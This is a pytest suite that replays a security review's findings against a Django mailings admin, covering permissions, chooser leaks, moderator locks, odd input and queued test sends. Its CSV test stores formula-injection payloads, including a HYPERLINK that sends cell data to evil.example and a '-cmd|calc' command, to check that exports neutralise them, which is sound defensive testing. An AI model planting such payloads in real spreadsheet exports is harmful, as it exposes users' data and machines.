"""What an outside security review broke in the mailings admin (issue 15), each attack
replayed through the real admin URLs: it must now fail safely."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client as Browser
from django.test import override_settings
from django.utils import timezone

from mailings import services
from tests.factories import (
    AttemptFactory,
    ClientFactory,
    DeliveryFactory,
    MailingFactory,
    MessageFactory,
    SuperuserFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db


def browser_for(user) -> Browser:
    browser = Browser()
    browser.force_login(user)
    return browser


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


# Item 5: the superuser holds add/change/delete on runs and deliveries, for which the
# viewsets register no such views.


def test_the_superuser_opens_attempts_a_run_and_failed_deliveries():
    delivery = DeliveryFactory(status="failed", smtp_code=550, response="no such user")
    admin = browser_for(SuperuserFactory())
    attempt = delivery.attempt

    for url in (
        "/admin/mailings/attempts/",
        "/admin/mailings/attempts/?export=csv",
        f"/admin/mailings/attempts/inspect/{attempt.pk}/",
        "/admin/mailings/failed-deliveries/",
        "/admin/mailings/failed-deliveries/?export=csv",
    ):
        response = admin.get(url)
        assert response.status_code == 200, url
    listing = admin.get("/admin/mailings/failed-deliveries/").content.decode()
    assert delivery.email in listing
    assert (
        "/admin/mailings/attempts/edit/"
        not in admin.get(f"/admin/mailings/attempts/inspect/{attempt.pk}/").content.decode()
    )


# Item 8: CSV formula injection.


def test_csv_exports_write_formulas_as_text():
    owner = UserFactory(role="Users")
    ClientFactory(
        owner=owner,
        full_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        comment="@SUM(1+1)",
        email="a2@example.com",
    )
    ClientFactory(owner=owner, full_name="+1-2", comment="-cmd|calc", email="b@example.com")
    ClientFactory(owner=owner, full_name="\tTab", comment="\rReturn", email="c@example.com")
    ClientFactory(owner=owner, full_name="Plain Name", comment="", email="d@example.com")
    MailingFactory(owner=owner, message=MessageFactory(owner=owner, subject="=1+1"))
    browser = browser_for(owner)

    clients = csv_rows(browser.get("/admin/mailings/clients/?export=csv"))
    cells = {cell for row in clients[1:] for cell in row[:3]}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert {"'@SUM(1+1)", "'+1-2", "'-cmd|calc", "'\tTab", "'\rReturn", "Plain Name"} <= cells
    messages = csv_rows(browser.get("/admin/mailings/messages/?export=csv"))
    assert messages[1][0] == "'=1+1"

    # The user's subject reaches a manager's spreadsheet as text, not as a formula.
    manager = browser_for(UserFactory(role="Managers"))
    mailings = csv_rows(manager.get("/admin/mailings/mailings/?export=csv"))
    assert mailings[1][1] == "'=1+1"  # the subject, after the name
    # XLSX cells are strings already: unchanged.
    assert manager.get("/admin/mailings/mailings/?export=xlsx").status_code == 200


def test_csv_exports_of_runs_and_failures_write_formulas_as_text():
    owner = UserFactory(role="Users")
    mailing = MailingFactory(owner=owner, message=MessageFactory(owner=owner, subject="=2+2"))
    attempt = AttemptFactory(mailing=mailing, server_response="-ERR =bad")
    DeliveryFactory(attempt=attempt, status="failed", response="=evil()")
    admin = browser_for(SuperuserFactory())

    runs = csv_rows(admin.get("/admin/mailings/attempts/?export=csv"))
    assert runs[1][-1] == "'-ERR =bad"
    failures = csv_rows(admin.get("/admin/mailings/failed-deliveries/?export=csv"))
    assert failures[1][-1] == "'=evil()"


# Item 14: the choosers list no image or document to Users or Managers.


@pytest.fixture
def media():
    from django.core.files.base import ContentFile
    from wagtail.documents.models import Document
    from wagtail.images.models import Image
    from wagtail.images.tests.utils import get_test_image_file

    image = Image.objects.create(title="Secret board photo", file=get_test_image_file())
    document = Document.objects.create(
        title="Salaries 2026", file=ContentFile(b"name,salary\n", name="salaries.csv")
    )
    return image, document


@pytest.mark.parametrize("role", ["Users", "Managers"])
def test_users_and_managers_list_no_image_or_document(media, role):
    image, document = media
    browser = browser_for(UserFactory(role=role))

    for url in (
        "/admin/images/chooser/",
        "/admin/documents/chooser/",
        "/admin/api/main/images/",
        "/admin/api/main/documents/",
        f"/admin/documents/chooser/chosen/{document.pk}/",
        f"/admin/images/chooser/chosen/{image.pk}/",
    ):
        response = browser.get(url)
        body = response.content.decode()
        assert image.title not in body and document.title not in body, url
    # The superuser still has them.
    admin = browser_for(SuperuserFactory())
    assert image.title in admin.get("/admin/images/chooser/").content.decode()
    assert document.title in admin.get("/admin/documents/chooser/").content.decode()
    assert image.title in admin.get("/admin/api/main/images/").content.decode()


# Item 15: who switched a mailing off decides who may switch it on.


@pytest.fixture
def shop():
    owner = UserFactory(role="Users", email="shop@example.com")
    mailing = MailingFactory(owner=owner, start_at=timezone.now() + timedelta(days=1))
    services.mailing_save(mailing=mailing)
    return owner, mailing


def test_a_manager_cannot_enable_a_mailing_its_owner_disabled(shop):
    owner, mailing = shop
    as_owner, as_manager = browser_for(owner), browser_for(UserFactory(role="Managers"))

    assert as_owner.post(f"/admin/mailings/mailings/disable/{mailing.pk}/").status_code == 302
    mailing.refresh_from_db()
    assert (mailing.is_enabled, mailing.disabled_by_moderator) == (False, False)

    inspect = as_manager.get(f"/admin/mailings/mailings/inspect/{mailing.pk}/").content.decode()
    assert f"/admin/mailings/mailings/enable/{mailing.pk}/" not in inspect
    assert as_manager.get(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 403
    assert as_manager.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 403
    mailing.refresh_from_db()
    assert mailing.is_enabled is False

    # The owner switches it on again.
    assert as_owner.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 302
    mailing.refresh_from_db()
    assert mailing.is_enabled is True


def test_an_owner_cannot_enable_a_mailing_a_moderator_disabled(shop):
    owner, mailing = shop
    as_owner, as_manager = browser_for(owner), browser_for(UserFactory(role="Managers"))

    assert as_manager.post(f"/admin/mailings/mailings/disable/{mailing.pk}/").status_code == 302
    mailing.refresh_from_db()
    assert (mailing.is_enabled, mailing.disabled_by_moderator) == (False, True)

    # The owner sees why it is off, and has no way to switch it on: not the action...
    listing = as_owner.get("/admin/mailings/mailings/").content.decode()
    assert "Disabled by a moderator" in listing
    assert f"/admin/mailings/mailings/enable/{mailing.pk}/" not in listing
    inspect = as_owner.get(f"/admin/mailings/mailings/inspect/{mailing.pk}/").content.decode()
    assert "A moderator disabled this mailing" in inspect
    assert as_owner.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 403
    # ...nor disabling it again themselves (which must not take the moderator's mark away)...
    assert as_owner.post(f"/admin/mailings/mailings/disable/{mailing.pk}/").status_code == 302
    assert as_owner.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 403
    # ...nor the "enabled" box of the edit form.
    form = as_owner.get(f"/admin/mailings/mailings/edit/{mailing.pk}/").content.decode()
    assert "only a moderator can enable it" in form
    data = {
        "name": "Spring offers",
        "message": mailing.message_id,
        "clients": ",".join(str(pk) for pk in mailing.clients.values_list("pk", flat=True)),
        "start_at": timezone.localtime(mailing.start_at).strftime("%Y-%m-%d %H:%M"),
        "end_at": timezone.localtime(mailing.end_at).strftime("%Y-%m-%d %H:%M"),
        "time_zone": mailing.time_zone,
        "periodicity": mailing.periodicity,
        "is_enabled": "on",
    }
    response = as_owner.post(f"/admin/mailings/mailings/edit/{mailing.pk}/", data)
    assert response.status_code == 302
    mailing.refresh_from_db()
    assert (mailing.is_enabled, mailing.disabled_by_moderator) == (False, True)

    # A moderator switches it on again; then its owner may switch it off and on as before.
    assert as_manager.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 302
    mailing.refresh_from_db()
    assert (mailing.is_enabled, mailing.disabled_by_moderator) == (True, False)
    assert as_owner.post(f"/admin/mailings/mailings/disable/{mailing.pk}/").status_code == 302
    assert as_owner.post(f"/admin/mailings/mailings/enable/{mailing.pk}/").status_code == 302


# Item 10: "Add all matching" on a hundred thousand clients.


def mailing_form(message, clients: str) -> dict:
    now = timezone.localtime()
    return {
        "name": "Spring offers",
        "message": message.pk,
        "clients": clients,
        "start_at": (now + timedelta(days=1)).strftime("%Y-%m-%d %H:%M"),
        "end_at": (now + timedelta(days=30)).strftime("%Y-%m-%d %H:%M"),
        "time_zone": "UTC",
        "periodicity": "daily",
        "is_enabled": "on",
    }


def test_a_mailing_to_a_hundred_thousand_chosen_clients_saves(client):
    from mailings.models import Client, Mailing

    owner = UserFactory(role="Users")
    client.force_login(owner)
    Client.objects.bulk_create(
        Client(owner=owner, email=f"c{n}@example.org", full_name=f"Client {n}")
        for n in range(100_000)
    )
    message = MessageFactory(owner=owner)

    # What "Add all matching" puts in the picker: every id, in one field.
    search = client.get("/admin/mailings/clients/search/?q=&all=1").json()
    assert (search["total"], len(search["ids"]), search["more"]) == (100_000, 100_000, False)
    response = client.post(
        "/admin/mailings/mailings/add/", mailing_form(message, ",".join(map(str, search["ids"])))
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    mailing = Mailing.objects.get(owner=owner)
    assert mailing.clients.count() == 100_000
    # The edit form carries them in one field again, and names the first few.
    form = client.get(f"/admin/mailings/mailings/edit/{mailing.pk}/").content.decode()
    assert "Chosen clients: 100000" in form
    assert form.count('name="clients"') == 1


@pytest.mark.parametrize(
    "garbage",
    ["abc", "1,abc", "²", "1;2", "-1", "99999999999999999999999", "1\x002", "0x10", " , ,"],
)
def test_garbage_in_the_clients_field_is_a_form_error(client, garbage):
    from mailings.models import Mailing

    owner = UserFactory(role="Users")
    client.force_login(owner)
    message = MessageFactory(owner=owner)
    ClientFactory(owner=owner)

    response = client.post("/admin/mailings/mailings/add/", mailing_form(message, garbage))

    assert response.status_code == 200
    assert "error-message" in response.content.decode()
    assert not Mailing.objects.exists()


def test_another_users_clients_in_the_clients_field_are_a_form_error(client):
    from mailings.models import Mailing

    owner = UserFactory(role="Users")
    client.force_login(owner)
    message, mine = MessageFactory(owner=owner), ClientFactory(owner=owner)
    theirs = ClientFactory(owner=UserFactory(role="Users"), full_name="Their Secret Client")

    response = client.post(
        "/admin/mailings/mailings/add/", mailing_form(message, f"{mine.pk},{theirs.pk}")
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert "error-message" in html
    assert "Their Secret Client" not in html and theirs.email not in html
    assert not Mailing.objects.exists()


# Item 19: odd input is a form error or a 400, never a 500.


def test_nul_bytes_in_searches_are_refused_or_ignored_never_a_500(client):
    owner = UserFactory(role="Users")
    client.force_login(owner)
    ClientFactory(owner=owner)

    search = client.get("/admin/mailings/clients/search/?q=%00")
    assert search.status_code == 400
    assert "NUL" in search.json()["error"]
    for url in (
        "/admin/mailings/clients/?q=%00",
        "/admin/mailings/clients/results/?q=a%00b",
        "/admin/mailings/messages/?q=%00",
        "/admin/mailings/mailings/?q=%00",
    ):
        assert client.get(url).status_code in (200, 400), url


def test_nul_in_an_imported_cell_is_reported_not_a_500(client, through_worker):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from mailings.models import Client

    owner = UserFactory(role="Users")
    client.force_login(owner)
    content = b"email,full_name\nann@example.org,Ann\x00\nbob@example.org,Bob\n"

    response = through_worker(
        client,
        "/admin/mailings/clients/import/",
        {"file": SimpleUploadedFile("c.csv", content, content_type="text/csv")},
    )

    assert response.status_code == 200
    assert "NUL" in response.content.decode()
    assert list(Client.objects.filter(owner=owner).values_list("email", flat=True)) == [
        "bob@example.org"
    ]


@pytest.mark.parametrize("value", ["%C2%B2", "%00", "abc", "-1", "99999999999999999999999"])
def test_an_odd_client_on_the_preview_shows_the_first_client(client, value):
    owner = UserFactory(role="Users")
    client.force_login(owner)
    message, reader = MessageFactory(owner=owner), ClientFactory(owner=owner)

    response = client.get(f"/admin/mailings/messages/preview/{message.pk}/?client={value}")

    assert response.status_code == 200
    assert reader.email in response.content.decode()


@pytest.mark.parametrize(
    "query",
    [
        "mailing=abc",
        "mailing=99999999999999999999999",
        "owner=%C2%B2",
        "owner=99999999999999999999999",
        "scheduled_for_after=0001-01-01&scheduled_for_before=0001-01-02",
        "scheduled_for_after=9999-12-31",
        "status=%00",
        "p=abc",
        "ordering=%00",
    ],
)
def test_odd_filters_on_listings_are_not_a_500(query):
    admin = browser_for(SuperuserFactory())
    manager = browser_for(UserFactory(role="Managers"))
    for browser in (admin, manager):
        for listing in (
            "/admin/mailings/attempts/",
            "/admin/mailings/failed-deliveries/",
            "/admin/mailings/mailings/",
        ):
            query_here = (
                query.replace("scheduled_for", "start_at")
                if "mailings/mailings" in listing
                else query
            )
            response = browser.get(f"{listing}?{query_here}")
            assert response.status_code in (200, 400, 404), (listing, query_here)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("message", "abc"),
        ("message", "99999999999999999999999"),
        ("message", "²"),
        ("periodicity", "\x00"),
        ("time_zone", "\x00"),
        ("start_at", "0001-01-01 00:00"),
        ("end_at", "0001-01-01 00:00"),
        ("start_at", "\x00"),
    ],
)
def test_odd_values_in_the_mailing_form_are_form_errors(client, field, value):
    from mailings.models import Mailing

    owner = UserFactory(role="Users")
    client.force_login(owner)
    message, reader = MessageFactory(owner=owner), ClientFactory(owner=owner)

    response = client.post(
        "/admin/mailings/mailings/add/", {**mailing_form(message, str(reader.pk)), field: value}
    )

    assert response.status_code == 200
    assert "error-message" in response.content.decode()
    assert not Mailing.objects.exists()


def test_a_three_megabyte_message_body_is_a_form_error_that_keeps_the_text(client):
    from mailings.models import Message

    owner = UserFactory(role="Users")
    client.force_login(owner)
    body = ("Hello {full_name}, " + "x" * 80 + "\n") * 30_000  # about 3 MB

    response = client.post("/admin/mailings/messages/add/", {"subject": "Big news", "body": body})

    assert response.status_code == 200
    html = response.content.decode()
    assert "The text is too long" in html
    assert "Big news" in html and "x" * 80 in html  # what was typed is still there
    assert not Message.objects.exists()


# Item 20 (test send): a worker sends it; a silent mail server never holds the request.


@pytest.mark.services
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_send_a_test_is_sent_by_a_worker_and_its_result_shown_afterwards(client):
    import uuid

    from site_config.celery import app
    from tests.support.broker import reset_connection_pools
    from tests.support.faulty_smtp import FaultySMTPServer
    from tests.support.processes import (
        celery_worker,
        database_url_for_processes,
        use_default_queue,
        wait_until,
    )

    owner = UserFactory(role="Users", email="tester@example.com")
    client.force_login(owner)
    message = MessageFactory(owner=owner, subject="Hello {full_name}")
    preview = f"/admin/mailings/messages/preview/{message.pk}/"
    queue, saved_queue = f"test-{uuid.uuid4().hex[:10]}", app.conf.task_default_queue

    with FaultySMTPServer() as smtp:
        smtp.mode = "slow"  # accepts, then never answers
        # A broker-down test before this one closed the pools kombu keeps per broker URL.
        reset_connection_pools()
        use_default_queue(queue)
        worker = None
        try:
            with override_settings(EMAIL_HOST="127.0.0.1", EMAIL_PORT=smtp.port):
                response = client.post(f"/admin/mailings/messages/send-test/{message.pk}/")
            # No worker yet and a mail server that never answers: the page still comes back,
            # saying the test is queued.
            assert response.status_code == 302
            page = client.get(preview).content.decode()
            assert "A test to tester@example.com is queued" in page
            assert 'data-last-test="queued"' in page

            smtp.mode = "ok"
            worker = celery_worker(
                queue=queue,
                env={"DATABASE_URL": database_url_for_processes()},
                settings={"EMAIL_HOST": "127.0.0.1", "EMAIL_PORT": smtp.port, "EMAIL_TIMEOUT": 2},
            )

            def shown_sent() -> bool:
                return 'data-last-test="sent"' in client.get(preview).content.decode()

            assert wait_until(shown_sent, timeout=60), worker.output()[-3000:]
        finally:
            use_default_queue(saved_queue)
            if worker is not None:
                worker.stop()
        assert smtp.accepted["tester@example.com"] == 1
    assert "Your last test was sent to tester@example.com" in client.get(preview).content.decode()


def test_send_a_test_with_the_broker_down_says_so(client, broker_down):
    owner = UserFactory(role="Users")
    client.force_login(owner)
    message = MessageFactory(owner=owner)

    response = client.post(f"/admin/mailings/messages/send-test/{message.pk}/", follow=True)

    assert response.status_code == 200
    html = response.content.decode()
    assert "The test could not be queued" in html
    assert 'data-last-test="failed"' in html


@pytest.mark.parametrize(
    "path",
    [
        "/admin/mailings/mailings/edit/{huge}/",
        "/admin/mailings/mailings/inspect/{huge}/",
        "/admin/mailings/mailings/disable/{huge}/",
        "/admin/mailings/mailings/enable/{huge}/",
        "/admin/mailings/mailings/send-now/{huge}/",
        "/admin/mailings/clients/edit/{huge}/",
        "/admin/mailings/messages/preview/{huge}/",
        "/admin/mailings/attempts/inspect/{huge}/",
        "/admin/mailings/attempts/retry-failed/{huge}/",
        "/admin/mailings/mailings/edit/abc/",
    ],
)
def test_an_id_too_large_for_the_database_is_a_404(client, path):
    client.force_login(UserFactory(role="Users"))

    response = client.get(path.format(huge="99999999999999999999999"))

    assert response.status_code == 404
